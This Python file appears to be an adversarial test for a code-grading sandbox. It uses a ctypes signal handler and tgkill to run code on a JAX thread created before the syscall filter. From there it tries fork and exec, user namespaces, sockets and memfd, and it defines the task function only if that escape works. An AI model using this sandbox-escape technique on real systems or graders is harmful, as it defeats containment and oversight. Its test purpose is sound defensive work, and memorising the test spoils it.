"""Lets a thread of JAX's backend, which is older than the filter on system calls, fork, execute and open a socket.

A signal with a handler in C runs there. All threads of a worker must be under the filter.
Earns: at most 0 points.
"""

import ctypes
import os
import socket
import time

import jax
import jax.numpy as jnp

libc = ctypes.CDLL(None, use_errno=True)
through = {}


def attempt(what, act):
    try:
        through[what] = act()
    except OSError as error:
        through[what] = error.strerror


def try_fork():
    pid = os.fork()
    if pid == 0:
        try:
            os.execv("/usr/bin/env", ["env", "true"])
        finally:
            os._exit(77)
    return os.waitpid(pid, 0)[1] == 0


def try_namespaces():
    pid = os.fork()
    if pid == 0:
        os._exit(libc.unshare(0x10000000) != 0)
    return os.waitpid(pid, 0)[1] == 0


def try_udp():
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as one:
        one.bind(("127.0.0.1", 0))
        one.sendto(b"x", one.getsockname())
        one.settimeout(1)
        return one.recv(1) == b"x"


def try_memory_file():
    os.close(os.memfd_create("x"))
    return True


def try_interfaces():
    return [name for _, name in socket.if_nameindex()]


def try_unix():
    with socket.socket(socket.AF_UNIX) as one:
        one.bind("\0jax101-attack")
    return True


@ctypes.CFUNCTYPE(None, ctypes.c_int)
def handler(_):
    if "filter" in through:
        return
    through["filter"] = libc.prctl(21, 0, 0, 0, 0)
    attempt("fork and exec", try_fork)
    attempt("user namespace", try_namespaces)
    attempt("socket", try_udp)
    attempt("unix", try_unix)
    attempt("interfaces", try_interfaces)
    attempt("memory file", try_memory_file)


libc.signal.restype = ctypes.c_void_p
libc.signal.argtypes = [ctypes.c_int, ctypes.c_void_p]
libc.signal(10, ctypes.cast(handler, ctypes.c_void_p))
for thread in range(os.getpid() + 1, os.getpid() + 60):
    if libc.syscall(234, os.getpid(), thread, 10) == 0:  # tgkill
        break
time.sleep(2)
print(through)

if through.get("fork and exec") is True or through.get("socket") is True:

    @jax.jit
    def selu(x, alpha=1.6733, scale=1.0507):
        return scale * jnp.where(x > 0, x, alpha * (jnp.exp(x) - 1))
else:
    raise RuntimeError(str(through))
